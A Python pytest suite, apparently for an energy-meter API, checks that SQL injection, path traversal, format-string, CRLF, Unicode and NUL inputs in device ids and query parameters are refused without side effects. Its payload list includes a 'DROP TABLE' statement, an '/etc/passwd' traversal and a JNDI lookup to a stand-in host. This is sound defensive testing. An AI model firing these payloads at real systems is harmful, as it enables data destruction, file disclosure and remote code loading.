"""Injection strings (SQL, path traversal, format strings, Unicode, NUL, CRLF) in every path and query
parameter of every query route, and in the device id of an upload (issue 11: these held; kept standing).
Each is a 4xx naming the parameter — 422, or 404 where a decoded ``/`` leaves no route — never a 500,
never a header of the client's making, and nothing in storage changes."""

from typing import Any, Final
from urllib.parse import quote

import pytest
from hostile_kit import (
    WRITE_TOKENS,
    Meter,
    Stack,
    assert_problem,
    batch,
    get,
    post,
    still_works,
    writes_nothing,
)

DEVICE = "h-inject"
TOKEN = WRITE_TOKENS[DEVICE]
INJECTIONS: Final = {
    "sql quote": "' OR '1'='1",
    "sql statement": "1; DROP TABLE samples; --",
    "sql comment": f"{DEVICE}'--",
    "sql union": "x' UNION SELECT device_id FROM devices --",
    "path traversal": "../../../etc/passwd",
    "encoded traversal": "..%2F..%2Fetc%2Fpasswd",
    "format string": "%s%s%s%n",
    "python format": "{0.__class__.__mro__}",
    "template": "${jndi:ldap://evil.example/x}",
    "latin": "h-ïnject",
    "right-to-left override": "h-\u202einject",
    "fullwidth digits": "２０２６-０１",
    "emoji": "\U0001f4a5",
    "nul": f"{DEVICE}\x00",
    "crlf": f"{DEVICE}\r\nX-Injected: 1",
    "long": "a" * 1000,
}
GOOD: Final[dict[str, dict[str, str]]] = {
    "series": {"start": "2026-01-01T00:00:00Z", "end": "2026-01-02T00:00:00Z", "bucket": "1h", "tz": "UTC"},
    "capacity": {"month": "2026-01", "tz": "UTC"},
    "export": {
        "start": "2026-01-01T00:00:00Z",
        "end": "2026-01-02T00:00:00Z",
        "bucket": "1h",
        "format": "csv",
        "tz": "UTC",
    },
}
QUERY_PARAMS: Final = [(route, name) for route, params in GOOD.items() for name in params]


@pytest.fixture(scope="module")
def meter(stack: Stack) -> Meter:
    m = Meter(DEVICE)
    assert post(stack, batch(DEVICE, m.readings(1)), TOKEN).status_code == 200
    return m


def _refused(r: Any, loc: list[str]) -> None:
    assert_problem(r, 422, loc)
    assert "x-injected" not in r.headers


@pytest.mark.parametrize("route", ["realtime", *GOOD])
def test_an_injection_in_the_device_id_of_a_query_route(stack: Stack, meter: Meter, route: str) -> None:
    with writes_nothing(stack, DEVICE):
        for what, value in INJECTIONS.items():
            r = get(stack, f"/v1/devices/{quote(value, safe='')}/{route}", GOOD.get(route))
            if "/" in value:  # decoded before routing: no route has a device id with a slash
                assert_problem(r, 404)
            else:
                _refused(r, ["path", "device_id"])
            assert r.status_code in (404, 422), what
    still_works(stack, meter)


@pytest.mark.parametrize(("route", "name"), QUERY_PARAMS, ids=[f"{r}-{n}" for r, n in QUERY_PARAMS])
def test_an_injection_in_a_query_parameter(stack: Stack, meter: Meter, route: str, name: str) -> None:
    with writes_nothing(stack, DEVICE):
        for value in INJECTIONS.values():
            r = get(stack, f"/v1/devices/{DEVICE}/{route}", {**GOOD[route], name: value})
            _refused(r, ["query", name])
    still_works(stack, meter)


def test_an_injection_in_an_unknown_query_parameter_of_the_device_list_is_ignored(
    stack: Stack, meter: Meter
) -> None:
    for value in INJECTIONS.values():
        r = get(stack, "/v1/devices", {"device_id": value, value: "1"})
        assert r.status_code == 200, r.text


def test_an_injection_in_the_device_id_of_an_upload(stack: Stack, meter: Meter) -> None:
    """The token may write h-inject only: any other id is refused as another device's (403)."""
    with writes_nothing(stack, DEVICE):
        for value in INJECTIONS.values():
            body = assert_problem(post(stack, batch(value, meter.readings(1)), TOKEN), 403)
            assert repr(value[:64]) in body["detail"]
    still_works(stack, meter)
